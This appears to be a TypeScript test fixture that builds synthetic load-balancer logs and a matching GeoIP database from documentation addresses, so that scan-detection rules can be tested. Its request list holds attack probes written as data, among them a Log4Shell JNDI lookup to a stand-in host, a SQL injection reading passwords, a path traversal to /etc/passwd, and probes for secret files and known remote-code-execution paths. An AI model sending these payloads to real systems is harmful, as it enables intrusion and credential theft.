import { albLine } from './alb-line.ts';
import { writeMmdb } from './mmdb.ts';

interface Attacker {
  readonly network: string;
  readonly client: string;
  readonly place: readonly [
    country: string,
    name: string,
    city: string | undefined,
    latitude: number,
    longitude: number,
  ];
  readonly as: readonly [number, string];
}

/** Addresses of documentation and benchmarking networks, given places for tests. */
const attackers: readonly Attacker[] = [
  attacker('198.18.1', 45, ['NL', 'Netherlands', 'Amsterdam', 52.37, 4.9], [64500, 'Example Hosting B.V.']),
  attacker('198.18.2', 17, ['US', 'United States', 'Ashburn', 39.04, -77.49], [64501, 'Example Cloud Inc.']),
  attacker('198.18.3', 201, ['VN', 'Vietnam', 'Hanoi', 21.03, 105.85], [64502, 'Example Telecom']),
  attacker('198.18.4', 9, ['SG', 'Singapore', 'Singapore', 1.29, 103.85], [64503, 'Example Pte. Ltd.']),
  attacker('198.18.5', 120, ['BR', 'Brazil', 'São Paulo', -23.55, -46.63], [64504, 'Exemplo S.A.']),
  attacker('198.18.6', 77, ['DE', 'Germany', 'Frankfurt am Main', 50.11, 8.68], [64505, 'Beispiel GmbH']),
  attacker('198.18.7', 4, ['ZA', 'South Africa', 'Johannesburg', -26.2, 28.05], [64506, 'Example (Pty) Ltd']),
  attacker('198.18.8', 33, ['IN', 'India', 'Mumbai', 19.08, 72.88], [64507, 'Example Networks']),
  attacker('198.18.9', 88, ['PL', 'Poland', 'Warsaw', 52.23, 21.01], [64508, 'Przykład sp. z o.o.']),
  attacker('198.18.10', 3, ['AU', 'Australia', 'Sydney', -33.87, 151.21], [64509, 'Example Pty Ltd']),
  attacker('198.18.11', 62, ['CA', 'Canada', 'Toronto', 43.65, -79.38], [64510, 'Example Ltd.']),
  attacker('198.18.12', 150, ['RU', 'Russia', undefined, 55.75, 37.62], [64511, 'Primer']),
];

function attacker(prefix: string, last: number, place: Attacker['place'], as: Attacker['as']): Attacker {
  return { network: `${prefix}.0/24`, client: `${prefix}.${last}`, place, as };
}

/** Requests that the pack has rules for, and some that it has none for. */
const requests: readonly (readonly [path: string, status: number, agent: string])[] = [
  ['/.env', 404, 'Mozilla/5.0 (compatible; scan/1.0)'],
  ['/.git/config', 404, 'python-requests/2.31.0'],
  ['/wp-login.php', 404, 'Mozilla/5.0 zgrab/0.x'],
  ['/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 404, 'Custom-AsyncHttpClient'],
  ['/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--', 200, 'sqlmap/1.7.11#stable (https://sqlmap.org)'],
  ['/download?file=../../../../etc/passwd', 403, 'curl/8.5.0'],
  ['/', 200, '${jndi:ldap://198.51.100.9:1389/a}'],
  ['/cgi-bin/luci/;stok=/locale?form=country', 404, 'Mozilla/5.0'],
  ['/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array', 404, 'Mozilla/5.0'],
  ['/actuator/env', 404, 'Go-http-client/1.1'],
  ['/products/42', 200, 'Mozilla/5.0 (X11; Linux x86_64)'],
  ['/checkout', 502, 'Mozilla/5.0 (iPhone; CPU iPhone OS 19_0 like Mac OS X)'],
];

/** The database that says where they are. */
export function attackerPlaces(): Buffer {
  return writeMmdb(
    Object.fromEntries(
      attackers.map(({ network, place: [country, name, city, latitude, longitude], as: [asn, organization] }) => [
        network,
        {
          country: { iso_code: country, names: { en: name } },
          ...(city === undefined ? {} : { city: { names: { en: city } } }),
          location: { latitude, longitude },
          autonomous_system_number: asn,
          autonomous_system_organization: organization,
        },
      ]),
    ),
  );
}

/** Lines of an ALB's log that end at `endMs`: scans in waves, the same ones for the same arguments. */
export function attackLog(endMs: number, lines: number, spanMs: number): string {
  const random = seeded(7);
  const pick = <T>(from: readonly T[], skew: number): T | undefined => from[Math.floor(random() ** skew * from.length)];
  return Array.from({ length: lines }, (_, index) => {
    const share = index / lines;
    // Three waves in a quiet sea.
    const wave = share + 0.04 * Math.sin(share * Math.PI * 6);
    const ms = endMs - spanMs * (1 - Math.min(1, Math.max(0, wave)));
    const { client = '' } = pick(attackers, 1.8) ?? {};
    const [path = '/', status = 404, agent = ''] = pick(requests, 1.3) ?? [];
    return albLine({ client, path, status, agent, time: new Date(ms).toISOString().replace('Z', '000Z') });
  }).join('\n');
}

/** Mulberry32: numbers in [0, 1) that are the same in every run. */
function seeded(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}
